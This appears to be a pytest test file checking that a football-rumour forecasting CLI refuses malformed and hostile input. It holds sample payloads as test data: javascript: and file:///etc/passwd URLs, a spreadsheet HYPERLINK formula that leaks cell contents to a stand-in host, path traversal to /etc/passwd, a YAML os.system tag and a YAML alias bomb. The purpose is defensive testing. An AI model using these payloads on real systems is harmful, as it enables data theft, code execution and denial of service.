"""Broken and hostile input, as a new user (or an attacker) would write it.

Every case must be refused up front with exit code 2, a message naming the file, line and field
(or the option), no traceback, and every data file byte-for-byte unchanged. Nothing here samples:
a refusal happens before any fit, and a fixture makes reaching a fit fail the test.
"""

from __future__ import annotations

import csv
import datetime as dt
import os
import shutil
import stat
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from forecast.cli import main
from forecast.data.paths import data_root
from forecast.data.scenario import Scenario
from forecast.data.schemas import FactRow, RemovalRow, RumourRow, SourceRow, is_web_url
from forecast.data.store import add_rumour
from forecast.errors import DataValidationError, RumourRefusedError
from forecast.io.files import neutralise_formulas, write_csv
from forecast.io.tables import read_rows

ROOT = Path(__file__).resolve().parents[1]
RUMOURS = "rumours/real-madrid-2024.csv"
SCENARIO = "scenarios/real-madrid-2024.yaml"
GOOD = dict(date="2024-11-20", source="Marca", subject="Xabi Alonso", claim="agreement",
            club="Real Madrid", window="2025-05/2025-08", url="https://example.org/a",
            summary="Marca says a deal is agreed.")


# -- helpers ------------------------------------------------------------------------------------
def edit_csv(path: Path, row: int, **changes) -> None:
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    rows[row].update(changes)
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)


def row_of(path: Path, column: str, value: str) -> int:
    """Index (0-based, header excluded) of the first row whose column has the value."""
    with path.open(newline="", encoding="utf-8") as fh:
        return next(i for i, r in enumerate(csv.DictReader(fh)) if r[column] == value)


def replace_text(path: Path, old: str, new: str, count: int = 1) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, count), encoding="utf-8")


def snapshot(root: Path) -> dict[str, bytes]:
    """Every file under the data copy (symlinks by their target name), by relative path.

    Lock files are left out: a writer takes its lock before it can refuse a row, and they are
    not data (``.gitignore`` lists them).
    """
    out = {}
    for p in sorted(root.rglob("*")):
        if p.suffix == ".lock":
            continue
        if p.is_symlink():
            out[str(p.relative_to(root))] = os.readlink(p).encode()
        elif p.is_file():
            out[str(p.relative_to(root))] = p.read_bytes()
    return out


def run_cli(argv: list[str], capsys) -> tuple[int, str]:
    """Run the CLI in-process; return the exit code and everything printed."""
    try:
        code = main(argv)
    except SystemExit as exc:  # argparse refuses an option
        code = exc.code
    out = capsys.readouterr()
    return code, out.out + out.err


@pytest.fixture(autouse=True)
def _no_fitting(monkeypatch):
    """Reaching a fit means an option or file was not checked up front.

    The modules that import ``fit`` or ``learn_reliability`` by name are imported here, before the
    patch, and patched too: imported for the first time under the patch, they would keep the
    refusing stand-in for the rest of the session (a later module's fit would fail).
    """
    import forecast.inference.batch
    import forecast.inference.fit
    import forecast.inference.reliability
    import forecast.inference.timeline
    import forecast.inference.update

    def refuse(*args, **kwargs):
        raise AssertionError("a fit was started: the input was not refused up front")

    for module, name in ((forecast.inference.fit, "fit"), (forecast.inference.timeline, "fit"),
                         (forecast.inference.reliability, "learn_reliability"),
                         (forecast.inference.fit, "learn_reliability"),
                         (forecast.inference.update, "learn_reliability"),
                         (forecast.inference.batch, "run_batch")):  # run_batch: backtest workers
        monkeypatch.setattr(module, name, refuse)


# -- the corpus ---------------------------------------------------------------------------------
@dataclass
class Case:
    """One hostile input: how to break the data copy, the command, what the message must name."""

    name: str
    edit: object  # callable(root) -> None
    needles: tuple[str, ...]
    argv: tuple[str, ...] = ("validate", "{scenario}")
    absent: tuple[str, ...] = ()


def rumour(row: int = 4, **changes):
    return lambda root: edit_csv(root / RUMOURS, row, **changes)


def table(name: str, row: int = 0, **changes):
    return lambda root: edit_csv(root / name, row, **changes)


def yaml_edit(old: str, new: str):
    return lambda root: replace_text(root / SCENARIO, old, new)


def raw(name: str, transform):
    def edit(root):
        path = root / name
        path.write_bytes(transform(path.read_bytes()))
    return edit


def alias_bomb(levels: int) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 10) + "]")
    return "\n".join(lines) + "\n"


def outside_symlink(root: Path) -> None:
    """Replace the rumour table by a symlink to a (valid) copy outside the data folder."""
    outside = root.parent / f"outside-{root.name}.csv"
    shutil.copy(root / RUMOURS, outside)
    (root / RUMOURS).unlink()
    (root / RUMOURS).symlink_to(outside)


def data_dir_instead(root: Path) -> None:
    (root / "rumours" / "folder.csv").mkdir()
    replace_text(root / SCENARIO, "rumours: ../rumours/real-madrid-2024.csv",
                 "rumours: ../rumours/folder.csv")


def out_file(root: Path) -> None:
    (root / "not-a-folder").write_text("x")


R = "real-madrid-2024.csv:6"  # the fifth rumour row is line 6 (header is line 1)
Y = "real-madrid-2024.yaml"


def line_of(text: str) -> int:
    """Return the line of the default scenario file where ``text`` is (an edit keeps the lines)."""
    lines = (ROOT / "data" / SCENARIO).read_text(encoding="utf-8").splitlines()
    return next(i for i, line in enumerate(lines, 1) if text in line)


CASES = [
    # rumours: URLs that would run or read something from a report
    Case("url-javascript", rumour(url="javascript:alert(document.domain)"), (R, "[url]", "http")),
    Case("url-javascript-upper", rumour(url="  JavaScript:alert(1)"), (R, "[url]")),
    Case("url-data", rumour(url="data:text/html,<script>alert(1)</script>"), (R, "[url]")),
    Case("url-file", rumour(url="file:///etc/passwd"), (R, "[url]")),
    Case("url-vbscript", rumour(url="vbscript:msgbox(1)"), (R, "[url]")),
    Case("url-not-a-url", rumour(url="see the Marca website"), (R, "[url]")),
    Case("url-no-host", rumour(url="https://"), (R, "[url]")),
    Case("url-space", rumour(url="https://exa mple.org/x"), (R, "[url]")),
    Case("url-relative", rumour(url="/etc/passwd"), (R, "[url]")),
    Case("url-empty", rumour(url=""), (R, "[url]")),
    # rumours: fields
    Case("date-impossible", rumour(date="2024-02-30"), (R, "[date]")),
    Case("date-words", rumour(date="last Tuesday"), (R, "[date]")),
    Case("window-month-13", rumour(window="2025-13"), (R, "[window]")),
    Case("window-backwards", rumour(window="2025-08/2025-05"), (R, "[window]")),
    Case("strength-markup", rumour(strength="<script>"), (R, "[strength]")),
    Case("claim-formula", rumour(claim="=1+1"), (R, "[claim]")),
    Case("source-formula", rumour(source='=HYPERLINK("http://x/?leak="&A1,"x")'), (R, "[source]")),
    Case("subject-escape-codes", rumour(subject="\x1b[31mXabi\x1b[0m"), (R, "[subject]", "\\x1b")),
    Case("club-unknown", rumour(club="Real Madird"), (R, "[club]", "Real Madrid")),
    Case("id-blank", rumour(id="   "), (R, "[id]")),
    Case("summary-blank", rumour(summary=""), (R, "[summary]")),
    Case("cites-unknown", rumour(cites="r999"), (R, "[cites]")),
    Case("id-duplicate", rumour(id="r001"), ("real-madrid-2024.csv:2 [id]",)),
    # rumours: the file itself
    Case("field-over-128k", rumour(summary="x" * 140_000), (R, "not valid CSV", "field larger")),
    Case("latin-1", raw(RUMOURS, lambda b: b.replace(b"Marca", b"M\xe1rca", 1)),
         ("real-madrid-2024.csv:", "not UTF-8", "0xe1")),
    Case("utf-16", raw(RUMOURS, lambda b: b.decode("utf-8").encode("utf-16")),
         ("real-madrid-2024.csv:1", "NUL")),
    Case("nul-byte", raw(RUMOURS, lambda b: b.replace(b"\n", b"\n\x00", 3)), ("real-madrid-2024.csv:",
                                                                              "NUL")),
    Case("binary-junk", raw(RUMOURS, lambda b: bytes(range(256)) * 4), ("real-madrid-2024.csv",)),
    Case("empty-file", raw(RUMOURS, lambda b: b""), ("real-madrid-2024.csv:1", "required column")),
    Case("header-only-garbage", raw(RUMOURS, lambda b: b"root:x:0:0:root:/root:/bin/bash\n"),
         ("real-madrid-2024.csv:1 [id]", "required column missing"), absent=("root:x",)),
    Case("duplicated-column", raw(RUMOURS, lambda b: b.replace(b",url,", b",url,", 1).replace(
        b"\n", b",url\n", 1)), ("real-madrid-2024.csv:1 [url]", "more than once")),
    Case("missing-column", raw(RUMOURS, lambda b: b.replace(b"subject,", b"who,", 1)),
         ("real-madrid-2024.csv:1 [subject]", "required column missing")),
    Case("extra-values", raw(RUMOURS, lambda b: b.rstrip(b"\n") + b",extra\n"),
         ("real-madrid-2024.csv:", "more values than header")),
    Case("unclosed-quote", raw(RUMOURS, lambda b: b.rstrip(b"\n") + b'\nr999,"2024-11-01\n'),
         ("real-madrid-2024.csv:", "not valid CSV")),
    Case("stray-quote", raw(RUMOURS, lambda b: b.rstrip(b"\n") + b'\n"r999"x,2024-11-01\n'),
         ("real-madrid-2024.csv:", "not valid CSV")),
    # sources, facts, track record, results, team names, removals
    Case("source-twice-other-tier", raw("sources.csv", lambda b: b + b"Marca,sports_daily,ES,es,4,,\n"),
         ("sources.csv:", "[name]", "listed twice")),
    Case("source-alias-clash", raw("sources.csv", lambda b: b + b"Marka,sports_daily,ES,es,4,Marca,\n"),
         ("sources.csv:", "[aliases]", "Marca")),
    Case("source-tier-5", table("sources.csv", 0, tier="5"), ("sources.csv:2 [tier]",)),
    Case("source-url-javascript", table("sources.csv", 0, url="javascript:alert(1)"),
         ("sources.csv:2 [url]",)),
    Case("source-country", table("sources.csv", 0, country="Spain"), ("sources.csv:2 [country]",)),
    Case("fact-extension-before-announcement",
         lambda root: edit_csv(root / "facts.csv", row_of(root / "facts.csv", "kind", "extended"),
                               value="2020-06-30"), ("facts.csv:", "[value]", "before")),
    Case("fact-kind", table("facts.csv", 0, kind="fired"), ("facts.csv:2 [kind]",)),
    Case("fact-interim-2", table("facts.csv", 0, interim="2"), ("facts.csv:2 [interim]",)),
    Case("fact-url", table("facts.csv", 0, url="ftp://example.org/x"), ("facts.csv:2 [url]",)),
    Case("track-came-true-2", table("track_record.csv", 0, came_true="2"),
         ("track_record.csv:2 [came_true]",)),
    Case("track-report-url", table("track_record.csv", 0, report_url="javascript:void(0)"),
         ("track_record.csv:2 [report_url]",)),
    Case("track-resolved-before-claim", table("track_record.csv", 0, resolution_date="2000-01-01"),
         ("track_record.csv:2 [resolution_date]",)),
    Case("result-negative-goals", table("results/matches.csv", 0, FTHG="-1"),
         ("matches.csv:2 [FTHG]",)),
    Case("result-date", table("results/matches.csv", 0, Date="yesterday"), ("matches.csv:2 [Date]",)),
    Case("team-names-column", raw("results/team_names.csv", lambda b: b.replace(b"canonical", b"canon", 1)),
         ("team_names.csv:1 [canonical]",)),
    Case("removal-reason-blank", table("rumours/real-madrid-2024.removals.csv", 0, reason=""),
         ("removals.csv:2 [reason]",)),
    Case("removal-unknown-id", table("rumours/real-madrid-2024.removals.csv", 0, id="r999"),
         ("removals.csv:2 [id]",)),
    # the scenario file
    Case("yaml-alias-bomb", raw(SCENARIO, lambda b: alias_bomb(10).encode() + b),
         (f"{Y}:1", "aliases")),
    Case("yaml-anchor", yaml_edit("season_end_months: [5, 6]", "season_end_months: &m [5, 6]"),
         (f"{Y}:11", "anchors")),
    Case("yaml-deep", raw(SCENARIO, lambda b: b + b"deep: " + b"[" * 200 + b"]" * 200 + b"\n"),
         (Y, "nested deeper")),
    Case("yaml-python-tag", raw(SCENARIO, lambda b: b + b"x: !!python/object/apply:os.system ['id']\n"),
         (Y, "not valid YAML")),
    Case("yaml-duplicate-key", raw(SCENARIO, lambda b: b + b"as_of: 2024-12-01\n"),
         (Y, "[as_of]", "twice")),
    Case("yaml-latin-1", raw(SCENARIO, lambda b: b.replace(b"Madrid", b"Madr\xeed", 1)),
         (f"{Y}:3", "not UTF-8")),
    Case("yaml-tabs", raw(SCENARIO, lambda b: b.replace(b"\n  - club: Real", b"\n\t- club: Real")),
         (Y, "not valid YAML")),
    Case("yaml-list", raw(SCENARIO, lambda b: b"- just\n- a list\n"), (Y, "valid dictionary")),
    Case("yaml-empty", raw(SCENARIO, lambda b: b""), (Y,)),
    Case("yaml-too-large", raw(SCENARIO, lambda b: b + b"# " + b"x" * 1_100_000 + b"\n"), (Y, "KiB")),
    Case("yaml-unknown-key", raw(SCENARIO, lambda b: b + b"rm_rf: true\n"), (Y, "[rm_rf]")),
    Case("season-end-month-13", yaml_edit("season_end_months: [5, 6]", "season_end_months: [5, 13]"),
         (f"{Y}:11", "[season_end_months.1]")),
    Case("horizon-month-13", yaml_edit("horizon: 2026-06", "horizon: 2026-13"), (f"{Y}:10", "[horizon]")),
    Case("appeal-nan", yaml_edit("        ties: [former_player]\n", "        ties: [former_player]\n"
                                 "        appeal: .nan\n"), (Y, "appeal", "finite")),
    Case("appeal-inf", yaml_edit("        ties: [former_player]\n", "        ties: [former_player]\n"
                                 "        appeal: .inf\n"), (Y, "appeal", "finite")),
    Case("contract-before-appointment", yaml_edit("appointed: 2021-06-01", "appointed: 2026-07-01"),
         (f"{Y}:16 [contract_end]", "before the appointment")),
    Case("post-source-javascript", yaml_edit(
        "      - https://telegraph.ng/", "      - javascript:alert(1)//"), (Y, "posts.0.sources.0")),
    Case("candidate-source-not-url", yaml_edit(
        "          - https://www.film-tv-video.de/", "          - film-tv-video.de/"),
         (Y, "sources.0")),
    Case("prior-unknown", raw(SCENARIO, lambda b: b + b"priors:\n  sack_bass: {mu: 0, sigma: 1}\n"),
         (f"{Y}:", "[priors.sack_bass]", "sack_base")),
    Case("prior-sigma-0", raw(SCENARIO, lambda b: b + b"priors:\n  sack_base: {mu: 0, sigma: 0}\n"),
         (Y, "priors.sack_base.sigma")),
    Case("prior-mu-nan", raw(SCENARIO, lambda b: b + b"priors:\n  sack_base: {mu: .nan, sigma: 1}\n"),
         (Y, "priors.sack_base.mu")),
    # paths a scenario names
    Case("path-etc-passwd", yaml_edit("rumours: ../rumours/real-madrid-2024.csv",
                                      "rumours: ../../../../../../../../etc/passwd"),
         (f"{Y}:{line_of('rumours: ../rumours/')} [data.rumours]", "outside the data folder"),
         absent=("root:",)),
    Case("path-absolute", yaml_edit("sources: ../sources.csv", "sources: /etc/hostname"),
         (f"{Y}:{line_of('sources: ../sources.csv')} [data.sources]", "outside")),
    Case("path-results-list", yaml_edit("results: [../results/matches.csv]",
                                        "results: [../results/matches.csv, ../../x.csv]"),
         (f"{Y}:{line_of('results: [../results/')} [data.results.1]", "outside")),
    Case("path-symlink-outside", outside_symlink, (Y, "[data.rumours]", "outside")),
    Case("path-directory", data_dir_instead, ("folder.csv", "not a regular file")),
    # command-line options: each refused before any loading or fitting
    Case("run-seed-negative", None, ("--seed", "0 to 4294967295"), ("run", "{scenario}", "--seed", "-1")),
    Case("run-seed-too-big", None, ("--seed",), ("run", "{scenario}", "--seed", str(2**32))),
    Case("run-draws-0", None, ("--draws",), ("run", "{scenario}", "--draws", "0")),
    Case("run-tune-words", None, ("--tune", "whole number"), ("run", "{scenario}", "--tune", "many")),
    Case("run-chains-1000", None, ("--chains",), ("run", "{scenario}", "--chains", "1000")),
    Case("run-as-of-bad", None, ("--as-of",), ("run", "{scenario}", "--as-of", "2024-02-30")),
    Case("run-sampler", None, ("--sampler",), ("run", "{scenario}", "--sampler", "emcee")),
    Case("run-out-is-file", out_file, ("--out", "is a file"),
         ("run", "{scenario}", "--out", "{root}/not-a-folder")),
    Case("run-out-under-file", out_file, ("--out", "is a file"),
         ("run", "{scenario}", "--out", "{root}/not-a-folder/sub")),
    Case("run-out-unwritable", None, ("--out", "cannot write"), ("run", "{scenario}", "--out", "/proc/x")),
    Case("run-scenario-missing", None, ("not found",), ("run", "{root}/scenarios/nope.yaml")),
    Case("run-scenario-id-path", None, ("neither a scenario id",), ("run", "../../etc/passwd")),
    Case("validate-scenario-dir", lambda root: (root / "dir.yaml").mkdir(), ("dir.yaml", "not a regular"),
         ("validate", "{root}/dir.yaml")),
    Case("timeline-seed", None, ("--seed",), ("timeline", "{scenario}", "--seed", "-5")),
    Case("timeline-draws", None, ("--draws",), ("timeline", "{scenario}", "--draws", "-1")),
    Case("sources-as-of", None, ("--as-of",), ("sources", "{scenario}", "--as-of", "soon")),
    Case("sources-out-file", out_file, ("--out",), ("sources", "{scenario}", "--out", "{root}/not-a-folder")),
    Case("backtest-cases-missing", None, ("--cases",), ("backtest", "--cases", "{root}/no-cases")),
    Case("backtest-workers-negative", None, ("--workers",), ("backtest", "--workers", "-1")),
    Case("backtest-no-cases", lambda root: (root / "cases").mkdir(), ("cases", "no <case>/scenario.yaml"),
         ("backtest", "--cases", "{root}/cases")),
    # Outside a folder named cases/, a case's data folder is its own: ../../sources.csv escapes.
    Case("backtest-case-escapes", lambda root: shutil.copytree(ROOT / "data" / "cases" / "psg-2023",
                                                               root / "mine" / "psg-2023"),
         ("psg-2023/scenario.yaml:", "outside the data folder"), ("backtest", "--cases", "{root}/mine")),
    Case("rumour-add-future", None, ("real-madrid-2024.csv:43 [date]", "future"),
         ("rumour", "add", "--scenario", "{scenario}", "--no-refresh",
          *sum([[f"--{k}", v] for k, v in {**GOOD, "date": "2999-01-01"}.items()], []))),
    Case("rumour-add-javascript", None, ("real-madrid-2024.csv:43 [url]",),
         ("rumour", "add", "--scenario", "{scenario}", "--no-refresh",
          *sum([[f"--{k}", v] for k, v in {**GOOD, "url": "javascript:alert(1)"}.items()], []))),
    Case("rumour-add-seed", None, ("--seed",),
         ("rumour", "add", "--scenario", "{scenario}", "--seed", "-1", *sum(
             [[f"--{k}", v] for k, v in GOOD.items()], []))),
    Case("rumour-add-out-file", out_file, ("--out", "is a file"),
         ("rumour", "add", "--scenario", "{scenario}", "--out", "{root}/not-a-folder", *sum(
             [[f"--{k}", v] for k, v in GOOD.items()], []))),
    Case("rumour-add-to-broken-file", rumour(url="javascript:x"), (R, "[url]"),
         ("rumour", "add", "--scenario", "{scenario}", "--no-refresh",
          *sum([[f"--{k}", v] for k, v in GOOD.items()], []))),
    Case("rumour-remove-reason-blank", None, ("[reason]", "removal refused"),
         ("rumour", "remove", "r001", "--scenario", "{scenario}", "--reason", "")),
    Case("rumour-remove-unknown", None, ("r999",),
         ("rumour", "remove", "r999", "--scenario", "{scenario}", "--reason", "gone")),
    Case("rumour-remove-twice", None, ("already recorded",),
         ("rumour", "remove", "r005", "--scenario", "{scenario}", "--reason", "again")),
    Case("whatif-nothing-asked", None, ("say what changes",), ("whatif", "{scenario}")),
    Case("whatif-lose-without-club", None, ("need --club",), ("whatif", "{scenario}", "--lose", "2")),
    Case("whatif-lose-too-many", None, ("--lose",),
         ("whatif", "{scenario}", "--club", "Real Madrid", "--lose", "11")),
    Case("whatif-unknown-source", None, ("unknown source 'Nobody FC'",),
         ("whatif", "{scenario}", "--drop-source", "Nobody FC")),
    Case("whatif-club-without-results", None, ("reads no results",),
         ("whatif", "{scenario}", "--club", "Real Madrid Castilla", "--win", "1")),
]


def test_corpus_is_broad():
    assert len(CASES) >= 60 and len({c.name for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_input_is_refused_cleanly(case, scenario_copy, capsys):
    root = scenario_copy.parent.parent
    if case.edit:
        case.edit(root)
    before = snapshot(root)
    argv = [a.format(scenario=scenario_copy, root=root) for a in case.argv]
    start = time.perf_counter()
    code, output = run_cli(argv, capsys)
    assert code == 2, output[-3000:]
    assert "Traceback" not in output
    for needle in case.needles:
        assert needle in output, (needle, output[-3000:])
    for needle in case.absent:
        assert needle not in output, (needle, output[-3000:])
    assert len(output) < 20_000  # no file content dumped back
    assert snapshot(root) == before
    assert time.perf_counter() - start < 10


# The crashes of the issue, in a real process: exit 2, no traceback, nothing written.
SUBPROCESS = ["latin-1", "field-over-128k", "path-directory", "rumour-remove-reason-blank",
              "run-seed-negative", "run-out-is-file", "yaml-alias-bomb", "appeal-nan"]


@pytest.mark.parametrize("name", SUBPROCESS)
def test_no_traceback_in_a_real_process(name, scenario_copy):
    case = next(c for c in CASES if c.name == name)
    root = scenario_copy.parent.parent
    if case.edit:
        case.edit(root)
    before = snapshot(root)
    argv = [a.format(scenario=scenario_copy, root=root) for a in case.argv]
    env = {**os.environ, "PYTHONPATH": str(ROOT), "PYTHONWARNINGS": "ignore"}
    run = subprocess.run([sys.executable, "-m", "forecast", *argv], capture_output=True, text=True,
                         env=env, timeout=120, cwd=root)
    assert run.returncode == 2, run.stderr[-3000:]
    assert "Traceback" not in run.stderr + run.stdout
    assert all(n in run.stderr for n in case.needles), run.stderr[-3000:]
    assert snapshot(root) == before


# -- accepted input ------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "edit",
    [raw(RUMOURS, lambda b: b"\xef\xbb\xbf" + b),  # a UTF-8 byte-order mark
     raw(RUMOURS, lambda b: b.replace(b"\n", b"\r\n")),  # Windows line ends
     rumour(summary='=HYPERLINK("http://x/?leak="&A1,"click") is kept as text'),
     rumour(summary="Señor Ancelotti, «très» 好"),
     rumour(summary="two\nlines in quotes"),
     rumour(url="HTTPS://EXAMPLE.ORG/Upper?q=1#frag"),
     raw("sources.csv", lambda b: b + b"Voetbalpraat,aggregator,NL,nl,4,VOETBALPRAAT,\n")],
    ids=["bom", "crlf", "formula-text", "non-ascii", "multi-line", "upper-case-url",
         "alias-repeats-own-name"],
)
def test_acceptable_input_is_accepted(edit, scenario_copy, capsys):
    edit(scenario_copy.parent.parent)
    code, output = run_cli(["validate", str(scenario_copy)], capsys)
    assert code == 0, output


# -- targeted checks ------------------------------------------------------------------------------
def test_ten_level_alias_bomb_refused_in_under_a_second(scenario_copy):
    scenario_copy.write_text(alias_bomb(10) + scenario_copy.read_text())
    start = time.perf_counter()
    with pytest.raises(DataValidationError, match="aliases"):
        Scenario.load(scenario_copy)
    assert time.perf_counter() - start < 1.0


def test_data_root_rule(tmp_path):
    assert data_root(tmp_path / "data" / "scenarios" / "x.yaml") == (tmp_path / "data").resolve()
    assert data_root(tmp_path / "data" / "cases" / "c1" / "scenario.yaml") == (tmp_path / "data").resolve()
    assert data_root(tmp_path / "mine" / "x.yaml") == (tmp_path / "mine").resolve()


@pytest.fixture
def nested_copy(scenario_copy, tmp_path):
    """The data copy one level down (``<tmp>/data``), so ``<tmp>`` is a private 'outside'."""
    root = tmp_path / "data"
    root.mkdir()
    for item in list(tmp_path.iterdir()):
        if item != root:
            shutil.move(item, root / item.name)
    return root / SCENARIO


@pytest.fixture
def opened():
    """Record every path opened by this process while the fixture is active."""
    seen: list[str] = []
    active = [True]

    def hook(event, args):
        if active[0] and event == "open" and isinstance(args[0], str | bytes | os.PathLike):
            seen.append(os.fsdecode(args[0]))

    sys.addaudithook(hook)  # audit hooks cannot be removed: switch this one off afterwards
    yield seen
    active[0] = False


def test_nothing_outside_the_data_folder_is_read(nested_copy, opened):
    scenario_copy = nested_copy
    root = scenario_copy.parent.parent
    secret = root.parent / "secret.csv"
    secret.write_text("id,date\nTOP-SECRET,2024-01-01\n")
    replace_text(scenario_copy, "sources: ../sources.csv", "sources: ../../secret.csv")
    replace_text(scenario_copy, "facts: ../facts.csv", "facts: ../rumours/../../secret.csv")
    opened.clear()
    with pytest.raises(DataValidationError) as exc:
        Scenario.load(scenario_copy)
    assert "TOP-SECRET" not in str(exc.value) and "outside the data folder" in str(exc.value)
    assert not [p for p in opened if Path(p).resolve() == secret.resolve()]
    assert {p.field for p in exc.value.problems} == {"data.sources", "data.facts"}


def test_nothing_outside_the_data_folder_is_written(nested_copy, opened):
    scenario_copy = nested_copy
    root = scenario_copy.parent.parent
    outside_symlink(root)
    target = root.parent / f"outside-{root.name}.csv"
    before = target.read_bytes()
    opened.clear()
    with pytest.raises(DataValidationError, match="outside"):
        add_rumour(Scenario.load(scenario_copy), GOOD)
    touched = [p for p in opened if Path(p).resolve().parent == root.parent.resolve()]
    assert not touched and target.read_bytes() == before
    assert sorted(p.name for p in root.parent.iterdir()) == sorted([target.name, root.name])


def test_every_opened_file_of_a_load_is_inside_the_data_folder(scenario_copy, opened):
    root = scenario_copy.parent.parent.resolve()
    opened.clear()
    Scenario.load(scenario_copy)
    data_files = [Path(p).resolve() for p in opened if p.endswith((".csv", ".yaml"))]
    assert data_files and all(p.is_relative_to(root) for p in data_files), data_files


# -- writes -------------------------------------------------------------------------------------------
@pytest.mark.parametrize("mode", [0o644, 0o640, 0o664])
def test_add_keeps_the_file_mode(scenario_copy, mode):
    path = scenario_copy.parent.parent / RUMOURS
    path.chmod(mode)
    add_rumour(Scenario.load(scenario_copy), GOOD)
    assert stat.S_IMODE(path.stat().st_mode) == mode


def test_add_writes_through_a_symlink(scenario_copy):
    root = scenario_copy.parent.parent
    real = root / "rumours" / "real.csv"
    (root / RUMOURS).rename(real)
    (root / RUMOURS).symlink_to("real.csv")
    before = real.read_bytes()
    add_rumour(Scenario.load(scenario_copy), GOOD)
    assert (root / RUMOURS).is_symlink()
    assert real.read_bytes().startswith(before) and len(real.read_bytes()) > len(before)


def test_stale_temp_files_are_cleaned_on_the_next_write(scenario_copy):
    folder = scenario_copy.parent.parent / "rumours"
    stale = folder / ".real-madrid-2024.csv.abc123.tmp"
    stale.write_text("half a file")
    add_rumour(Scenario.load(scenario_copy), GOOD)
    assert not stale.exists()
    assert not [p for p in folder.iterdir() if p.name.endswith(".tmp")]


def test_gitignore_covers_locks_and_temp_files():
    lines = (ROOT / ".gitignore").read_text().splitlines()
    assert "data/**/*.lock" in lines and "data/**/.*.tmp" in lines


def test_refused_add_names_the_field(scenario_copy):
    path = scenario_copy.parent.parent / RUMOURS
    before = path.read_bytes()
    with pytest.raises(RumourRefusedError, match=r"\[url\]"):
        add_rumour(Scenario.load(scenario_copy), {**GOOD, "url": "javascript:alert(1)"})
    assert path.read_bytes() == before


# -- exported CSVs ------------------------------------------------------------------------------
def test_exported_csv_cells_cannot_run_as_formulas(tmp_path):
    table = pd.DataFrame({
        "summary": ['=HYPERLINK("http://x/?leak="&A1,"x")', "+1", "-2 pp", "@SUM(A1)", "\tx", "\rx",
                    "plain", None],
        "effect": [-0.3, 0.2, -1.0, 0.0, 1.5, -2.5, 3.0, 4.0],
        "=cmd": ["a"] * 8,
    })
    stored = table.copy()
    write_csv(table, tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(newline="") as fh:
        header, *rows = list(csv.reader(fh))
    assert [r[0] for r in rows[:6]] == ["'" + v.replace("\r", "\n") for v in stored["summary"][:6]]
    assert rows[6][0] == "plain"
    assert [float(r[1]) for r in rows] == list(stored["effect"])  # numbers untouched
    assert header == ["summary", "effect", "'=cmd"]
    pd.testing.assert_frame_equal(table, stored)  # the caller's table is not changed


@given(st.lists(st.text(max_size=20), min_size=1, max_size=8))
def test_neutralised_cells_never_start_a_formula(cells):
    out = neutralise_formulas(pd.DataFrame({"text": cells}))
    for before, after in zip(cells, out["text"], strict=True):
        assert not after.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert after.replace("\n", "") in (before.replace("\r", "").replace("\n", ""),
                                            "'" + before.replace("\r", "").replace("\n", ""))
        assert "\r" not in after


# -- property-based tests of the row schemas ---------------------------------------------------------
names = st.text(st.characters(min_codepoint=32, max_codepoint=0x2FFF, exclude_characters=",\""),
                min_size=1, max_size=30).filter(lambda s: s.strip())
hosts = st.from_regex(r"[a-z][a-z0-9-]{0,20}\.[a-z]{2,6}", fullmatch=True)
urls = st.builds(lambda s, h, p: f"{s}://{h}/{p}", st.sampled_from(["http", "https"]), hosts,
                 st.from_regex(r"[A-Za-z0-9_./-]{0,30}", fullmatch=True))
dates = st.dates(min_value=dt.date(1990, 1, 1), max_value=dt.date(2030, 12, 31))


@given(id=names, date=dates, source=names, subject=names, club=names, url=urls, summary=names,
       claim=st.sampled_from(["leaves", "joins", "talks", "agreement", "stays", "denial"]))
def test_valid_rumour_rows_round_trip(id, date, source, subject, club, url, summary, claim):
    record = dict(id=id, date=date.isoformat(), source=source, subject=subject, club=club, url=url,
                  summary=summary, claim=claim)
    row = RumourRow.model_validate(record)
    again = RumourRow.model_validate(row.model_dump(mode="json"))
    assert again == row and row.date == date and row.url == url


bad_schemes = st.sampled_from(["javascript", "data", "file", "vbscript", "ftp", "JaVaScRiPt", "blob"])


@given(scheme=bad_schemes, rest=st.text(max_size=30))
def test_no_url_other_than_http_is_accepted(scheme, rest):
    url = f"{scheme}:{rest}"
    assert not is_web_url(url)
    for model, column in ((RumourRow, "url"), (FactRow, "url"), (SourceRow, "url")):
        with pytest.raises(ValidationError) as exc:
            model.model_validate({column: url})
        assert any(e["loc"] == (column,) for e in exc.value.errors())


@given(st.dictionaries(st.sampled_from(list(RumourRow.model_fields) + ["extra"]),
                       st.text(max_size=40), max_size=14))
def test_any_text_record_validates_or_says_why(record):
    for model in (RumourRow, SourceRow, FactRow, RemovalRow):
        try:
            model.model_validate(record)
        except ValidationError:  # anything else would be a crash
            pass


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=400))
def test_any_bytes_give_rows_or_problems_never_an_exception(tmp_path_factory, data):
    path = tmp_path_factory.mktemp("bytes") / "t.csv"
    path.write_bytes(b"id,date,reason\n" + data)
    rows, problems = read_rows(path, RemovalRow)
    assert all(p.file == str(path) for p in problems)
    assert all(isinstance(line, int) for line, _ in rows)


def test_a_report_file_gets_a_new_files_mode_or_keeps_the_old_one(tmp_path):
    from forecast.io.files import atomic_write

    path = tmp_path / "report.html"
    atomic_write(path, lambda p: Path(p).write_text("a"))
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE(path.stat().st_mode) == 0o666 & ~umask
    path.chmod(0o640)
    atomic_write(path, lambda p: Path(p).write_text("b"))
    assert stat.S_IMODE(path.stat().st_mode) == 0o640 and path.read_text() == "b"
